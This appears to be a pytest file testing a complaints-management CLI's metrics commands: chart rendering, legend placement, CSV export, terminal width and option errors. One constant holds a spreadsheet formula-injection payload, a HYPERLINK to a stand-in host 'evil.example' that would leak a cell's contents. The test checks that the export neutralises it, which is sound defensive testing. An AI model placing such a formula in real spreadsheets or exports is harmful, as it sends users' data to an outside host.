"""``complaints metrics``: charts, the CSV export, options, and the errors a user can make."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from test_cli import Cli, cli, migrated  # noqa: F401 - the CLI runner and its fixtures

from escalation.indicators.chart import weekly_figure

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'


def test_the_chart_is_drawn_as_png_or_svg_from_the_weekly_series(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    reference = cli.intake()
    cli.advance(reference, "assess")
    cli.advance(reference, "invalid")
    outcome = cli.ok("--json", "metrics", "chart", "-o", str(tmp_path / "m.png"), "--from", "2026-11-01")
    assert (tmp_path / "m.png").read_bytes()[:4] == b"\x89PNG"
    weeks = outcome.data["weeks"]
    assert [w["week"] for w in weeks] == ["2026-10-26", "2026-11-02", "2026-11-09", "2026-11-16", "2026-11-23"]
    assert (weeks[-1]["received"], weeks[-1]["sla"]["first_response"], weeks[-1]["backlog"]["open"]) == (1, 1.0, 0)
    svg = cli.ok("metrics", "chart", "-o", str(tmp_path / "m.svg"))
    assert "wrote" in svg.out and "<svg" in (tmp_path / "m.svg").read_text(encoding="utf-8")[:500]


def weeks_with_a_clock_at_zero(count: int = 26) -> list[dict[str, Any]]:
    """Weekly rows as ``series.weekly`` gives them; the resolution clock met 0% for half of them."""
    rows = []
    for n in range(count):
        sla = {"acknowledge": 0.9, "first_response": 0.8, "resolution": 0.0 if n < count // 2 else 0.7}
        rows.append({"week": (date(2026, 6, 1) + timedelta(weeks=n)).isoformat(), "received": 10 + n % 7,
                     "sla": sla, "sla_all": 0.05 * (n % 3),
                     "backlog": {"open": 20 + n, "median_age_days": 3 + n % 4, "p90_age_days": 9 + n % 5}})
    return rows


def test_the_charts_legends_lie_beside_the_plots_never_over_their_data() -> None:
    from matplotlib import pyplot as plt

    fig = weekly_figure(weeks_with_a_clock_at_zero(), ["acknowledge", "first_response", "resolution"], "Weekly")
    try:
        renderer = fig.canvas.get_renderer()
        fig.draw(renderer)  # lays the figure out, as saving it does
        legends = [ax.get_legend() for ax in fig.axes if ax.get_legend() is not None]
        assert len(legends) == 2  # the SLA clocks; the backlog's ages and open complaints
        for legend in legends:
            box = legend.get_window_extent(renderer)
            assert not any(box.overlaps(ax.get_window_extent(renderer)) for ax in fig.axes)
            assert fig.bbox.contains(box.x1, box.y1) and fig.bbox.contains(box.x0, box.y0)  # not cut off the page
        labels = [t.get_text() for legend in legends for t in legend.get_texts()]
        assert labels == ["acknowledge", "first_response", "resolution", "all clocks",
                          "median age", "90th percentile age", "open complaints"]
    finally:
        plt.close(fig)


def test_a_chart_file_of_another_kind_is_refused_before_anything_is_read(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    outcome = cli("metrics", "chart", "-o", str(tmp_path / "m.pdf"))
    assert outcome.code == 1 and outcome.err.strip() == "Error: Invalid chart file: m.pdf: use a .png or .svg name"
    assert not (tmp_path / "m.pdf").exists()


def test_the_export_writes_a_hostile_product_name_as_text_not_as_a_formula(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
    cli.ok("intake", "--product", HOSTILE, "--description", "charged twice")
    cli.intake()
    out = cli.ok("metrics", "export", "--format", "csv", "--by", "product").out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["dimension"], r["group"], r["received"]) for r in rows] == [
        ("all", "all", "2"), ("product", "'" + HOSTILE, "1"), ("product", "Current account", "1")]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    written = cli.ok("metrics", "export", "-o", str(tmp_path / "m.csv"), "--by", "product")
    assert "wrote" in written.out and "3 rows" in written.out
    with (tmp_path / "m.csv").open(encoding="utf-8", newline="") as fh:
        assert list(csv.DictReader(fh)) == rows


def test_json_may_be_asked_for_before_or_after_metrics(cli: Cli) -> None:  # noqa: F811
    cli.intake()
    before, after = cli.ok("--json", "metrics").data, cli.ok("metrics", "--json").data
    assert before == after and before["overall"]["received"] == 1
    assert before["period"] == {"from": "2026-10-27", "to": "2026-11-23", "as_of": "2026-11-23T09:00:00+00:00"}


def test_the_tables_fit_an_80_column_terminal(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    reference = cli.intake()
    cli.advance(reference, "assess")
    cli.advance(reference, "invalid")
    monkeypatch.setenv("COLUMNS", "80")
    for args in (("metrics", "--by", "product"), ("metrics", "return", "fca"), ("metrics", "return", "cfpb")):
        out = cli.ok(*args).out
        assert max(map(len, out.splitlines())) <= 80, args


def test_at_80_columns_each_row_still_shows_what_it_counts(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: F811
    cli.intake("--channel", "email")
    monkeypatch.setenv("COLUMNS", "80")
    fca = cli.ok("metrics", "return", "fca").out
    first_column = " ".join(line.split("│")[1].strip() for line in fca.splitlines() if line.startswith("│"))
    for group in ("Banking and credit cards", "Insurance & pure protection", "Decumulation & pensions", "Total"):
        assert group in first_column  # a name may wrap between its words, never vanish
    assert "Opened" in fca and "Closed" in fca and "left out at" in fca
    by_channel = cli.ok("metrics", "--by", "channel").out
    assert "│ email " in by_channel and "Received" in by_channel


@pytest.mark.parametrize(("args", "message"), [
    (("metrics", "--by", "colour"), "Invalid --by: 'colour': use one of channel, product, tier, queue, handler"),
    (("metrics", "--from", "23/11/2026"), "Invalid --from: '23/11/2026' is not a date such as 2026-11-01"),
    (("metrics", "--from", "2026-11-23", "--to", "2026-11-01"), "Invalid period: --to 2026-11-01 is before --from "
                                                                "2026-11-23"),
    (("metrics", "export", "--format", "xlsx"), "Invalid --format: 'xlsx'; use one of csv"),
    (("metrics", "return", "fca", "--half", "2026-3"), "Invalid --half: '2026-3': write the year and the half"),
])
def test_bad_options_are_one_line_and_exit_1(cli: Cli, args: tuple[str, ...], message: str) -> None:  # noqa: F811
    outcome = cli(*args)
    assert outcome.code == 1 and message in outcome.err and outcome.out == ""
